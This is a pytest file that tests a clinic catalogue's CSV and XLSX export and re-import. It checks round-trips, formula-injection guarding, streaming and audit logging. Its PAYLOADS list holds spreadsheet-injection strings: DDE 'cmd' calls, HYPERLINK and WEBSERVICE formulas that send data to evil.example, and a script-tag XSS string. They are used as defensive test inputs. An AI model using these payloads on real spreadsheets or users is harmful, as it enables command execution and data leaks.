"""What is taken out can be edited and brought in again, and runs as a formula nowhere."""

import io
import zipfile

import httpx
import pytest
from python_calamine import CalamineWorkbook

from healthlink.catalog.imports.cells import RISKY, guarded, unguarded
from healthlink.db.pool import Db
from tests import make
from tests.catalog.imports.files import (
    CLINIC,
    DOCTOR,
    EVERYWHERE,
    HOURS,
    SERVICE,
    TOWN,
    bring,
    of_clinic,
    rows_of,
    table,
    taken_out,
)
from tests.catalog.imports.test_import import catalogue
from tests.conftest import Worker
from tests.make import Doctor, Person

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("https://evil.example")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    '",=1+1,"',
    ";=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "'=1+1",
    "''=1+1",
    "'quoted'",
    "-",
    "+",
    "_x0041_",
    "https://example.com",
    "https://example.com/" + "x" * 2100,
    "1e5",
    "007",
    "1/2",
    "TRUE",
    "#N/A",
    '<script>alert("x")</script>',
    "&amp;",
]


@pytest.fixture
async def risky(db: Db, dr_grigoryan: Doctor, dr_petrosyan: Doctor) -> None:
    """A catalogue with each payload as the description of something."""
    for number, payload in enumerate(PAYLOADS):
        about = {"name": f"Услуга {number}", "description": payload}
        await make.service(db, dr_grigoryan.clinic_id, dr_grigoryan.id, **about)
    await db.execute("update doctor set full_name = '=1+1' where id = $1", dr_petrosyan.id)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.usefixtures("risky")
async def test_what_is_taken_out_and_brought_in_unedited_changes_nothing(
    client: httpx.AsyncClient, worker: Worker, admin: Person, db: Db, kind: str
) -> None:
    before = await catalogue(db)
    out = await taken_out(client, admin, kind=kind)
    told = await bring(client, worker, admin, out)
    assert (told["state"], told["problems"]) == ("done", [])
    counts = told["counts"]
    assert {kind: each["unchanged"] for kind, each in counts.items()} == {
        "clinic": 2,
        "doctor": 2,
        "service": 2 + len(PAYLOADS),
        "hours": 14,
    }
    assert all(each["created"] == each["changed"] == 0 for each in counts.values())
    assert await catalogue(db) == before
    assert await taken_out(client, admin) == await taken_out(client, admin)


@pytest.mark.usefixtures("risky")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_clinics_own_round_trip_changes_nothing(
    client: httpx.AsyncClient,
    worker: Worker,
    maria: Person,
    dr_grigoryan: Doctor,
    db: Db,
    kind: str,
) -> None:
    before = await catalogue(db)
    here = of_clinic(dr_grigoryan)
    told = await bring(client, worker, maria, await taken_out(client, maria, here, kind), here)
    assert (told["state"], told["problems"]) == ("done", [])
    assert all(each["created"] == each["changed"] == 0 for each in told["counts"].values())
    assert await catalogue(db) == before


async def test_an_edited_export_changes_what_was_edited(
    client: httpx.AsyncClient, worker: Worker, admin: Person, db: Db, dr_grigoryan: Doctor
) -> None:
    out = (await taken_out(client, admin)).decode()
    edited = out.replace("Приём кардиолога,Первичный", "Приём,Первичный").replace(
        "Кардиолог,", "Терапевт,"
    )
    assert edited != out
    told = await bring(client, worker, admin, edited.encode())
    assert told["counts"]["doctor"]["changed"] == 1
    assert await db.fetchval("select specialization from doctor") == "Терапевт"


async def test_names_given_by_others_come_back(
    client: httpx.AsyncClient, worker: Worker, admin: Person
) -> None:
    await bring(client, worker, admin, table(*TOWN))
    rows = rows_of(await taken_out(client, admin))
    assert [(row["kind"], row["external_id"]) for row in rows] == [
        ("clinic", "c1"),
        ("doctor", "d1"),
        ("service", "s1"),
        ("hours", ""),
    ]
    for row, sent in zip(rows, TOWN, strict=True):
        same = {"external_id", "name", "full_name", "clinic", "doctor", "languages", "duration"}
        assert {k: row[k] for k in same & sent.keys()} == {
            k: str(sent[k]) for k in same & sent.keys()
        }
    assert rows[2]["price"] == "15000.50"
    assert (rows[3]["weekday"], rows[3]["opens"], rows[3]["closes"]) == ("1", "09:00", "24:00")


@pytest.mark.usefixtures("risky")
async def test_no_cell_of_a_table_is_a_formula(client: httpx.AsyncClient, admin: Person) -> None:
    rows = rows_of(await taken_out(client, admin))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(RISKY)]
    shown = {row["description"] for row in rows if row["kind"] == "service"}
    assert {guarded(payload) for payload in PAYLOADS} < shown
    assert "'=1+1" in {row["full_name"] for row in rows}, "a negative control"


@pytest.mark.usefixtures("risky")
async def test_no_cell_of_a_spreadsheet_is_a_formula_or_a_link(
    client: httpx.AsyncClient, admin: Person
) -> None:
    content = await taken_out(client, admin, kind="xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            inside = archive.read(name)
            assert b"<f>" not in inside and b"hyperlink" not in inside, name
            assert b"externalLink" not in inside, name
    with CalamineWorkbook.from_filelike(io.BytesIO(content)) as book:
        assert book.sheet_names == ["clinics", "doctors", "services", "hours"]
        cells = [
            cell
            for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python()
            for cell in row
        ]
    assert all(isinstance(cell, str) for cell in cells)
    assert not [cell for cell in cells if cell.startswith(RISKY)]  # type: ignore[union-attr]


@pytest.mark.parametrize("value", [*PAYLOADS, "", "'", "''", "'a", "a'", "\x00=1"])
def test_a_guarded_cell_comes_back_as_it_was(value: str) -> None:
    assert unguarded(guarded(value)) == value
    assert not guarded(value).startswith(RISKY)


@pytest.mark.parametrize("value", ["'s-Gravenhage", "'t Hart", "plain"])
def test_what_people_write_themselves_stays(value: str) -> None:
    assert unguarded(value) == value


async def test_a_doctor_at_two_clinics_comes_back_to_both(
    client: httpx.AsyncClient, worker: Worker, admin: Person, db: Db
) -> None:
    second = {**CLINIC, "external_id": "c2", "name": "Вторая"}
    await bring(client, worker, admin, table(CLINIC, second, {**DOCTOR, "clinic": "c1|c2"}))
    (row,) = [row for row in rows_of(await taken_out(client, admin)) if row["kind"] == "doctor"]
    assert set(row["clinic"].split("|")) == {"c1", "c2"}
    told = await bring(client, worker, admin, table({**DOCTOR, "clinic": "c2"}))
    assert told["counts"]["doctor"]["unchanged"] == 1
    assert await db.fetchval("select count(*) from doctor_clinic") == 2, "a file adds, only"


async def test_a_long_catalogue_comes_out_whole_and_in_pieces(
    client: httpx.AsyncClient, worker: Worker, admin: Person
) -> None:
    services = [{**SERVICE, "external_id": f"s{n:04}"} for n in range(2500)]
    await bring(client, worker, admin, table(CLINIC, DOCTOR, *services, HOURS))
    for kind in ("csv", "xlsx"):
        url = f"{EVERYWHERE}/export.{kind}"
        async with client.stream("GET", url, headers=admin.headers) as answer:
            assert answer.headers.get("transfer-encoding") == "chunked"
            assert "attachment" in answer.headers["content-disposition"]
            content = b"".join([piece async for piece in answer.aiter_raw()])
        if kind == "csv":
            ids = [row["external_id"] for row in rows_of(content) if row["kind"] == "service"]
            assert sorted(ids) == [f"s{n:04}" for n in range(2500)]


async def test_taking_out_leaves_a_row_in_the_trail(
    client: httpx.AsyncClient, maria: Person, admin: Person, dr_grigoryan: Doctor, db: Db
) -> None:
    await taken_out(client, maria, of_clinic(dr_grigoryan))
    await taken_out(client, admin)
    rows = await db.fetch("select actor_id, clinic_id, action from audit order by id")
    assert [tuple(row) for row in rows] == [
        (maria.id, dr_grigoryan.clinic_id, "catalogue.export"),
        (admin.id, None, "catalogue.export"),
    ]
